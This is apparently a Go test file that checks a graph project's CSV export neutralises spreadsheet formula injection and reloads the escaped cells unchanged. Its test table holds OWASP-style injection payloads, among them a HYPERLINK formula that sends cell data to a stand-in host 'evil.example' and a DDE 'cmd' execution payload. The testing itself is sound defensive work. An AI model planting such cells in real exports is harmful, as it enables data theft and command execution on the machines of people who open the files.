package export_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/coopgraph/coopgraph"
	"github.com/coopgraph/coopgraph/export"
)

// Cells a spreadsheet would run as formulas (OWASP's CSV injection list),
// and the ' that makes them text.
var formulas = []struct{ in, want string }{
	{`=HYPERLINK("https://evil.example/?d="&A1,"click")`, `'=HYPERLINK("https://evil.example/?d="&A1,"click")`},
	{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
	{`-2+3`, `'-2+3`},
	{`@SUM(1)`, `'@SUM(1)`},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{`'s-Hertogenbosch`, `''s-Hertogenbosch`}, // so that the ' can be taken off again
	{`Małopolska = Lesser Poland`, `Małopolska = Lesser Poland`},
	{`2+3`, `2+3`},
	{``, ``},
}

func TestSafeCell(t *testing.T) {
	for _, c := range formulas {
		if got := export.SafeCell(c.in); got != c.want {
			t.Errorf("SafeCell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// formulaDataset is the seed dataset with a formula in every kind of text
// cell the tables write: ids, names, aliases, documents, property names
// and values, roles and quotes.
func formulaDataset(t *testing.T) (*coopgraph.Dataset, *export.Subgraph) {
	t.Helper()
	ds, _ := seed(t)
	ents := slices.Clone(ds.Entities)
	rels := slices.Clone(ds.Relations)
	f := func(i int) string { return formulas[i%7].in }
	for i := range 7 {
		e := &ents[i]
		e.Name = f(i)
		// First, so that the list's cell starts with it; without a tab or
		// CR, which the loader trims from each alias.
		e.Aliases = append([]string{formulas[i%4].in}, e.Aliases...)
		e.Properties = map[string]string{"@note": f(i + 2)}
		r := &rels[i]
		derived := r.ID == coopgraph.RelationKey(*r)
		r.Quote = f(i + 3)
		r.Role = f(i + 4)
		r.Properties = map[string]string{"=weight": f(i + 5)}
		if derived {
			r.ID = coopgraph.RelationKey(*r)
		}
	}
	ents[0].Documents = []string{f(0)}
	ds = &coopgraph.Dataset{Name: ds.Name, Entities: ents, Relations: rels}
	return ds, &export.Subgraph{Entities: ents, Relations: rels}
}

// No cell of either table starts with a formula character, but the
// computed numbers: a negative score stays a number.
func TestCSVNeutralisesFormulas(t *testing.T) {
	_, sub := formulaDataset(t)
	sub.Attributes = []export.Attribute{export.DoubleAttribute("eigenvector", map[string]float64{sub.Entities[0].ID: -0.25})}
	for name, w := range map[string]func(*testing.T) []byte{
		"nodes.csv": func(t *testing.T) []byte { return write(t, export.NodesCSV, sub) },
		"edges.csv": func(t *testing.T) []byte { return write(t, export.EdgesCSV, sub) },
	} {
		header, rows := readCSV(t, w(t))
		seen := 0
		for _, h := range header {
			if strings.ContainsAny(h[:1], "=+-@\t\r") {
				t.Errorf("%s: header cell %q starts a formula", name, h)
			}
		}
		for i, row := range rows {
			for col, v := range row {
				if col == "eigenvector" {
					if v != "-0.25" {
						t.Errorf("%s row %d: the score is written %q, want the number -0.25", name, i+1, v)
					}
					continue
				}
				if strings.ContainsAny(v[:1], "=+-@\t\r") {
					t.Errorf("%s row %d, %s: %q starts a formula", name, i+1, col, v)
				}
				if strings.HasPrefix(v, "'") {
					seen++
				}
			}
		}
		if seen == 0 {
			t.Errorf("%s: no cell was neutralised", name)
		}
	}
	_, rows := readCSV(t, write(t, export.NodesCSV, sub))
	byID := map[string]map[string]string{}
	for _, r := range rows {
		byID[r["id"]] = r
	}
	for i, c := range formulas[:7] {
		e := sub.Entities[i]
		if got := byID[e.ID]["name"]; got != c.want {
			t.Errorf("entity %s: name written %q, want %q", e.ID, got, c.want)
		}
	}
}

// The ' comes off again when the tables are loaded: what was exported is
// what is read back.
func TestNeutralisedCSVLoadsBack(t *testing.T) {
	ds, sub := formulaDataset(t)
	checkLoadsBack(t, ds, sub)
}
